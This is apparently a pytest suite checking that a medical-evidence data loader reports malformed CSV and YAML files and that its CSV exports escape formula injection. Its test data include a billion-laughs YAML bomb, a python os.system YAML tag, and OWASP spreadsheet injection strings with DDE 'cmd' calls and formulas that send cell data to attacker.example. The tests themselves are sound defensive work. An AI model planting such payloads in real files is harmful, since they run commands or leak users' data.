"""Malformed data files: each gives a located problem on the error page, never a crash, a hang or a
silent repair.

Every case starts from the bytes of the mini fixture and breaks one file the way a curator's editor,
spreadsheet or file manager breaks real files. The loader must raise `EvidenceError` naming the file
(and the row and column where there is one); anything else reaching the user is a traceback. The
app-level tests check that the same data shows the error page, and that a valid dataset with empty
tables shows every page without a crash.

Why this file is long: every way of breaking a file is one row of a table here, grouped by file
type, so that the whole catalogue of malformed inputs reads in one place.
"""

from __future__ import annotations

import csv
import io
import shutil
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from components.evidence.exports import FORMULA_STARTS, to_safe_csv
from components.evidence.files import MAX_FIELD_CHARS
from components.evidence.loader import Evidence, EvidenceError, build_evidence, read_data_dir, read_dictionary
from components.evidence.validation import MAX_TEXT_CHARS
from components.views import ui
from tests.conftest import MINI, ROOT

# Generous: every case here takes well under a second; the limit only turns a hang into a failure.
pytestmark = pytest.mark.timeout(60)

APP = str(ROOT / "app.py")
APP_TIMEOUT = 60
DICTIONARY = read_dictionary()
MINI_FILES = read_data_dir(MINI, DICTIONARY)
STUDIES = "studies.csv"
CONDITIONS = "vocabularies/conditions.yaml"
OPTIONAL_TABLES = [
    "outcomes.csv",
    "mechanisms.csv",
    "adverse_events.csv",
    "registered_trials.csv",
    "claims.csv",
    "meta_analyses.csv",
    "curation_log.csv",
]
# The first bytes of real binary files that end up renamed to .csv: a PNG screenshot and an
# Excel workbook (a zip archive) saved under the CSV's name.
PNG_BYTES = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00\x90\x91h6"
XLSX_BYTES = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00b\xee\x9dh^\x01\x00\x00\x90\x04\x00\x00\x13\x00"
BILLION_LAUGHS = "lol0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"lol{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 10)
)


# ---------------------------------------------------------------------------------------------
# Ways to break one file of the mini dataset


def mini_text(name: str) -> str:
    return MINI_FILES[name].decode("utf-8")


def replaced(name: str, old: str, new: str) -> bytes:
    text = mini_text(name)
    assert old in text, f"{old!r} not in {name}"
    return text.replace(old, new, 1).encode("utf-8")


def with_line(name: str, index: int, change: Callable[[str], str]) -> bytes:
    """The file with line `index` (0 = header) changed; its line ending is kept as it was."""
    lines = mini_text(name).splitlines(keepends=True)
    body = lines[index].rstrip("\r\n")
    lines[index] = change(body) + lines[index][len(body) :]
    return "".join(lines).encode("utf-8")


def header_only(name: str) -> bytes:
    return mini_text(name).splitlines(keepends=True)[0].encode("utf-8")


def build_with(changes: dict[str, bytes | None]) -> Evidence:
    """Build the mini dataset with some files replaced (None removes a file)."""
    files = dict(MINI_FILES)
    for name, raw in changes.items():
        if raw is None:
            files.pop(name, None)
        else:
            files[name] = raw
    return build_evidence(files, DICTIONARY)


def problems_with(name: str, raw: bytes | None) -> list:
    with pytest.raises(EvidenceError) as info:
        build_with({name: raw})
    return info.value.problems


def assert_located(problems: list, file: str, row: int | None, column: str, words: str) -> None:
    """The broken file is named first (a cascade from it may follow), with the expected problem."""
    shown = [str(p) for p in problems]
    assert problems[0].file == file, shown
    assert any(p.file == file and p.row == row and p.column == column and words in p.message for p in problems), shown


# ---------------------------------------------------------------------------------------------
# Malformed CSV


def _cut_row(body: str) -> str:
    return body.rsplit(",", 3)[0]


def _truncated_mid_row() -> bytes:
    text = mini_text(STUDIES)
    return text[: text.index("Cord cells versus placebo")].encode("utf-8")


def _truncated_in_quotes() -> bytes:
    text = mini_text(STUDIES)
    return text[: text.index('randomised"') + 3].encode("utf-8")


MALFORMED_CSV = [
    # (case, file, bytes, expected row, column, words in the message)
    ("empty studies", STUDIES, b"", None, "", "file is empty"),
    ("empty optional table", "outcomes.csv", b"", None, "", "file is empty"),
    ("whitespace only", STUDIES, b" \r\n\r\n", None, "", "file is empty"),
    ("ragged row", STUDIES, with_line(STUDIES, 2, _cut_row), 2, "", "has 32 fields but the header has 35"),
    # pandas would shift every column of the row one place to the right instead.
    ("extra field in first row", STUDIES, with_line(STUDIES, 1, lambda b: b + ",extra"), 1, "", "has 36 fields"),
    (
        "unbalanced quote",
        STUDIES,
        with_line(STUDIES, 1, lambda b: b.replace("Activity fell.", '"Activity fell.')),
        1,
        "",
        "unbalanced quote",
    ),
    (
        "cp1252",
        STUDIES,
        MINI_FILES[STUDIES].replace(b"Malaysia", "Malaisie é".encode("cp1252")),
        None,
        "",
        "is not UTF-8 text (byte 0xe9 on line 3)",
    ),
    ("UTF-16 with BOM", STUDIES, mini_text(STUDIES).encode("utf-16"), None, "", "UTF-16"),
    ("UTF-16 without BOM", "claims.csv", mini_text("claims.csv").encode("utf-16-le"), None, "", "NUL byte"),
    ("NUL byte", STUDIES, replaced(STUDIES, "Malaysia", "Mala\x00ysia"), None, "", "NUL byte (line 3)"),
    (
        "30,000-character field",
        STUDIES,
        replaced(STUDIES, "Activity fell.", "A" * 30_000),
        1,
        "",
        f"field larger than field limit ({MAX_FIELD_CHARS})",
    ),
    (
        "30,000-character quoted field",
        STUDIES,
        replaced(STUDIES, "Activity fell.", '"' + "A" * 30_000 + '"'),
        1,
        "",
        "field larger than field limit",
    ),
    (
        "over-long text",
        STUDIES,
        replaced(STUDIES, "Activity fell.", "A" * (MAX_TEXT_CHARS + 1)),
        1,
        "summary",
        f"longer than {MAX_TEXT_CHARS} characters",
    ),
    (
        "duplicate column name",
        STUDIES,
        replaced(STUDIES, "study_id,condition,population", "study_id,condition,condition"),
        0,
        "condition",
        "appears twice in the header",
    ),
    ("empty column name", "claims.csv", replaced("claims.csv", "kind,condition", "kind,"), 0, "", "empty column name"),
    (
        "text in integer column",
        STUDIES,
        replaced(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,ten,"),
        1,
        "n_msc",
        "whole number",
    ),
    (
        "unit in number column",
        "outcomes.csv",
        replaced("outcomes.csv", "sle-alpha-2010,sledai,,12,months,", "sle-alpha-2010,sledai,,12 months,months,"),
        1,
        "timepoint",
        "not a number",
    ),
    # "NA" is not the missing marker (empty is): in a number column it is a mistake to report.
    (
        "NA in integer column",
        STUDIES,
        replaced(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,NA,"),
        1,
        "n_msc",
        "whole number",
    ),
    # PMIDs start with 1-9; a leading zero means a spreadsheet or a typo changed it.
    ("PMID with leading zeros", STUDIES, replaced(STUDIES, ",1000001,", ",0012345,"), 1, "pmid", "not a PubMed id"),
    ("PNG renamed to .csv", STUDIES, PNG_BYTES, None, "", "is it a binary file?"),
    ("Excel workbook renamed to .csv", "outcomes.csv", XLSX_BYTES, None, "", "is it a binary file?"),
    ("JPEG renamed to .csv", "claims.csv", b"\xff\xd8\xff\xe0JFIF", None, "", "is not UTF-8 text"),
    ("missing studies", STUDIES, None, None, "", "file is missing"),
    ("missing optional table", "claims.csv", None, None, "", "file is missing"),
    ("truncated mid-row", STUDIES, _truncated_mid_row(), 2, "", "has 10 fields but the header has 35"),
    ("truncated inside quotes", STUDIES, _truncated_in_quotes(), 6, "", "unbalanced quote"),
    (
        "renamed column",
        STUDIES,
        replaced(STUDIES, "study_id,condition,population", "study_id,disease,population"),
        0,
        "condition",
        "column is missing from the header",
    ),
]


@pytest.mark.parametrize(
    ("file", "raw", "row", "column", "words"),
    [pytest.param(*case[1:], id=case[0]) for case in MALFORMED_CSV],
)
def test_malformed_csv_is_located(file, raw, row, column, words):
    assert_located(problems_with(file, raw), file, row, column, words)


def test_renamed_column_names_the_new_name_too():
    problems = problems_with(STUDIES, replaced(STUDIES, "study_id,condition,", "study_id,disease,"))
    assert_located(problems, STUDIES, 0, "disease", "not in the data dictionary")


def test_utf8_bom_loads_and_is_not_part_of_the_first_column():
    evidence = build_with({STUDIES: b"\xef\xbb\xbf" + MINI_FILES[STUDIES]})
    assert list(evidence.studies.columns[:2]) == ["study_id", "condition"]
    assert "sle-alpha-2010" in evidence.studies.index


def test_unix_line_endings_load_like_windows_ones():
    unix = mini_text(STUDIES).replace("\r\n", "\n").encode("utf-8")
    assert build_with({STUDIES: unix}).studies.equals(build_with({}).studies)


@pytest.mark.parametrize("table", OPTIONAL_TABLES)
def test_header_only_optional_table_loads_with_no_rows(table):
    name = table.removesuffix(".csv")
    evidence = build_with({table: header_only(table)})
    if name != "curation_log":  # the curation log is checked but not part of the bundle
        assert len(evidence.table(name)) == 0
    assert len(evidence.studies) == 6


def test_header_only_studies_names_every_row_left_dangling():
    # Zero studies while other tables still refer to them: each reference is named, so a curator
    # who emptied studies.csv by mistake sees why.
    problems = problems_with(STUDIES, header_only(STUDIES))
    dangling = {(p.file, p.row) for p in problems if "does not match any study_id" in p.message}
    assert ("outcomes.csv", 1) in dangling and ("mechanisms.csv", 1) in dangling
    assert all(p.file != STUDIES for p in problems)


def _all_tables_header_only() -> dict[str, bytes]:
    return {spec["file"]: header_only(spec["file"]) for spec in DICTIONARY["tables"].values()}


def test_dataset_with_no_rows_at_all_loads_empty():
    evidence = build_with(_all_tables_header_only())
    assert len(evidence.studies) == len(evidence.outcomes) == len(evidence.claims) == 0
    assert str(evidence.studies["n_msc"].dtype) == "Int64"


# ---------------------------------------------------------------------------------------------
# Values that look like something else stay what the dictionary says they are


def test_integer_with_leading_zeros_parses_as_the_number():
    evidence = build_with({STUDIES: replaced(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,007,")})
    assert evidence.studies.at["sle-alpha-2010", "n_msc"] == 7


@pytest.mark.parametrize("word", ["NA", "None", "null", "NaN", "N/A", "#N/A", "nan", "NULL"])
def test_missing_value_words_stay_text_in_text_columns(word):
    studies_csv = replaced(STUDIES, "refractory SLE", word).replace(b"Malaysia", word.encode())
    evidence = build_with({STUDIES: studies_csv})
    assert evidence.studies.at["sle-alpha-2010", "population"] == word
    assert evidence.studies.at["ln-gamma-2017", "country"] == word


@pytest.mark.parametrize(
    ("column", "old", "new"),
    [
        # Full-width digits come from Chinese and Japanese input methods; Arabic-Indic from Arabic
        # and Persian ones. A Unicode \d would accept them and pandas could not convert them, so the
        # value would be silently emptied (or, for a PMID, linked to a PubMed page that does not exist).
        pytest.param("year", "Alpha A; Beta B,2010,", "Alpha A; Beta B,２０１０,", id="full-width year"),
        pytest.param("n_msc", "single_arm,,,,,,10,", "single_arm,,,,,,١٠,", id="Arabic-Indic n_msc"),
        pytest.param("pmid", ",1000001,", ",1０００００1,", id="full-width digits in PMID"),
    ],
)
def test_non_ascii_digits_are_reported_not_lost(column, old, new):
    assert_located(problems_with(STUDIES, replaced(STUDIES, old, new)), STUDIES, 1, column, "is not")


@pytest.mark.parametrize(
    ("file", "old", "new", "row", "column"),
    [
        pytest.param(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,99999999999999999999,", 1, "n_msc", id="n_msc"),
        pytest.param(
            "outcomes.csv",
            "sle-alpha-2010,sledai,,12,months,,mean,10,",
            "sle-alpha-2010,sledai,,12,months,,mean,9223372036854775808,",
            1,
            "n",
            id="outcome n of 2**63",
        ),
    ],
)
def test_integer_too_big_for_int64_is_reported(file, old, new, row, column):
    assert_located(problems_with(file, replaced(file, old, new)), file, row, column, "is above the maximum")


def test_integer_just_above_the_maximum_is_reported():
    raw = replaced(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,100000000000000000,")
    assert_located(problems_with(STUDIES, raw), STUDIES, 1, "n_msc", "is above the maximum 100000")


# ---------------------------------------------------------------------------------------------
# YAML vocabularies and the version file

_CONDITIONS_TEXT = mini_text(CONDITIONS)

MALFORMED_YAML = [
    # (case, file, text, expected row, words)
    ("billion laughs", CONDITIONS, BILLION_LAUGHS, None, "anchors (&name) are not allowed"),
    (
        "anchor and alias",
        CONDITIONS,
        _CONDITIONS_TEXT + "- &ra {id: ra2, label: RA, description: x}\n- *ra\n",
        None,
        "anchors",
    ),
    ("alias alone", CONDITIONS, _CONDITIONS_TEXT + "- *ra\n", None, "aliases (*name) are not allowed"),
    (
        "merge key",
        CONDITIONS,
        _CONDITIONS_TEXT + "- {<<: {id: ra2}, label: RA, description: x}\n",
        None,
        "merge keys (<<)",
    ),
    (
        "deep nesting",
        CONDITIONS,
        _CONDITIONS_TEXT + "- {id: ra2, label: " + "[" * 50 + "]" * 50 + "}\n",
        None,
        "nested deeper than 20",
    ),
    ("very deep nesting", CONDITIONS, "[" * 100_000 + "]" * 100_000, None, "nested"),
    (
        "duplicate key",
        CONDITIONS,
        _CONDITIONS_TEXT + "- {id: ra2, id: ra3, label: x, description: x}\n",
        None,
        "key 'id' appears twice",
    ),
    ("two documents", CONDITIONS, _CONDITIONS_TEXT + "---\n" + _CONDITIONS_TEXT, None, "more than one YAML document"),
    ("unclosed bracket", CONDITIONS, "- {id: sle, label: x\n", None, "line 2"),
    ("tab indentation", CONDITIONS, "\t- {id: sle}\n", None, "line 1"),
    ("mapping instead of list", CONDITIONS, "sle: Lupus\n", None, "must be a list of entries"),
    ("entry not a mapping", CONDITIONS, "- just text\n", 1, "entry must be a mapping"),
    # A python tag is only a tag to the strict loader: nothing is constructed or run.
    ("python tag", CONDITIONS, "- !!python/object/apply:os.system ['exit 1']\n", 1, "entry must be a mapping"),
    (
        "list as a value",
        CONDITIONS,
        _CONDITIONS_TEXT + "- {id: ra2, label: [a, b], description: x}\n",
        5,
        "single text value",
    ),
    ("empty vocabulary", CONDITIONS, "", None, "file is empty"),
    ("comment only", CONDITIONS, "# nothing yet\n", None, "file is empty"),
    ("version is a list", "dataset.yaml", "version: [1, 2]\n", None, "must be a mapping with a 'version' value"),
    ("dataset file is a list", "dataset.yaml", "- version: x\n", None, "must be a mapping with a 'version' value"),
]


@pytest.mark.parametrize(("file", "text", "row", "words"), [pytest.param(*c[1:], id=c[0]) for c in MALFORMED_YAML])
def test_malformed_or_unsafe_yaml_is_located(file, text, row, words):
    problems = problems_with(file, text.encode("utf-8"))
    shown = [str(p) for p in problems]
    assert problems[0].file == file, shown
    assert any(p.file == file and p.row == row and words in p.message for p in problems), shown


@pytest.mark.parametrize(
    "character",
    [
        pytest.param("\x0b", id="vertical tab (Word's line break)"),
        pytest.param("\x0c", id="form feed (copied from a PDF)"),
        pytest.param("\x7f", id="delete"),
    ],
)
def test_control_character_in_yaml_is_located(character):
    raw = replaced(CONDITIONS, "Lupus kidney disease.", f"Lupus kidney{character}disease.")
    assert_located(problems_with(CONDITIONS, raw), CONDITIONS, None, "", "unacceptable character")


def test_missing_vocabulary_is_named_before_its_consequences():
    problems = problems_with(CONDITIONS, None)
    assert (problems[0].file, problems[0].message) == (CONDITIONS, "file is missing")
    # The tables that use the vocabulary say so too, row by row.
    assert any(p.file == STUDIES and p.column == "condition" for p in problems)


def test_yaml_1_1_lookalikes_stay_text():
    # YAML 1.1 would read NO as false, 0012345 as octal 5349, 1:20 as 80 and 1.10 as 1.1.
    conditions = _CONDITIONS_TEXT.replace(
        "label: Rheumatoid arthritis, description: RA.", "label: NO, description: 0012345, applies_to: 1:20"
    )
    dataset = (
        mini_text("dataset.yaml")
        .replace('version: "test-1"', "version: 1.10")
        .replace('date: "2026-01-01"', "date: 2026-01-01")
    )
    evidence = build_with({CONDITIONS: conditions.encode(), "dataset.yaml": dataset.encode()})
    ra = evidence.vocab["conditions"].loc["rheumatoid_arthritis"]
    assert (ra["label"], ra["description"], ra["applies_to"]) == ("NO", "0012345", "1:20")
    assert evidence.label("conditions", "rheumatoid_arthritis") == "NO"
    assert evidence.version["version"] == "1.10"
    assert evidence.version["date"] == "2026-01-01"


def test_yaml_with_bom_loads():
    evidence = build_with({CONDITIONS: b"\xef\xbb\xbf" + MINI_FILES[CONDITIONS]})
    assert evidence.label("conditions", "sle") == "Systemic lupus erythematosus"


# ---------------------------------------------------------------------------------------------
# The app on broken and on empty data

BROKEN_DATASETS = [
    # (file, bytes or None to delete)
    pytest.param(STUDIES, b"", id="empty studies"),
    pytest.param(STUDIES, PNG_BYTES, id="PNG as studies"),
    pytest.param("outcomes.csv", mini_text("outcomes.csv").encode("utf-16"), id="UTF-16 outcomes"),
    pytest.param(CONDITIONS, BILLION_LAUGHS.encode(), id="billion laughs"),
    pytest.param("dataset.yaml", None, id="missing version file"),
    pytest.param(
        CONDITIONS,
        replaced(CONDITIONS, "Lupus kidney disease.", "Lupus kidney\x0bdisease."),
        id="control character in a vocabulary",
    ),
    pytest.param(
        STUDIES,
        replaced(STUDIES, "single_arm,,,,,,10,", "single_arm,,,,,,99999999999999999999,"),
        id="integer too big for int64",
    ),
]


def _write_dataset(target: Path, changes: dict[str, bytes | None]) -> Path:
    shutil.copytree(MINI, target)
    for name, raw in changes.items():
        if raw is None:
            (target / name).unlink()
        else:
            (target / name).write_bytes(raw)
    return target


@pytest.fixture
def app_on(monkeypatch, tmp_path):
    """Point the app at a changed copy of the mini dataset; the cached load is cleared around it."""

    def point(changes: dict[str, bytes | None]) -> None:
        data_dir = _write_dataset(tmp_path / "data", changes)
        monkeypatch.setenv("MSC_EVIDENCE_DIR", str(data_dir))
        ui.load_shipped.clear()

    yield point
    ui.load_shipped.clear()


@pytest.mark.parametrize(("file", "raw"), BROKEN_DATASETS)
def test_broken_data_shows_the_error_page(app_on, file, raw):
    app_on({file: raw})
    at = AppTest.from_file(APP, default_timeout=APP_TIMEOUT).run()
    assert not at.exception, at.exception
    assert at.title[0].value == "The evidence data could not be loaded"
    problems = at.dataframe[0].value
    assert problems.iloc[0]["File"] == file
    # Nothing that could be mistaken for evidence is drawn.
    assert not at.metric


def _run_page(page: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=APP_TIMEOUT).run()
    if page != ui.PAGES["overview"]:
        at.switch_page(page).run()
    return at


@pytest.mark.parametrize("page", sorted(ui.PAGES.values()))
def test_every_page_runs_on_a_dataset_with_no_rows(app_on, page):
    app_on(_all_tables_header_only())
    at = _run_page(page)
    assert not at.exception, at.exception
    assert at.title and "could not be loaded" not in at.title[0].value


def test_claim_check_runs_with_no_claims(app_on):
    app_on({"claims.csv": header_only("claims.csv")})
    at = _run_page(ui.PAGES["claims"])
    assert not at.exception, at.exception
    assert at.title[0].value == "Claim check"


# ---------------------------------------------------------------------------------------------
# CSV downloads that a spreadsheet opens without running anything

OWASP_CSV_INJECTION = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1&A2,"Error: please click for further information")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://attacker.example/")',
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '"=1+1"',
]
HARMLESS = ["-4.5", "+3", "1e6", "Liang J; Sun L", "a=b", "", "it's -", "’=1"]


def test_owasp_csv_injection_is_neutralised_in_cells_and_headers():
    values = OWASP_CSV_INJECTION + HARMLESS
    frame = pd.DataFrame({"Study": values, "=Header()": values, "-Note": values})
    rows = list(csv.reader(io.StringIO(to_safe_csv(frame).decode("utf-8-sig"), newline="")))

    assert len(rows) == len(values) + 1
    assert rows[0] == ["Study", "'=Header()", "'-Note"]
    for value, row in zip(values, rows[1:], strict=True):
        assert len(row) == 3
        for cell in row:
            if value.startswith(FORMULA_STARTS) and value not in HARMLESS:
                assert cell == "'" + value, f"{value!r} would run as a formula"
            else:
                assert cell == value, f"{value!r} changed on the way out"
            assert not cell.startswith(FORMULA_STARTS) or cell in HARMLESS
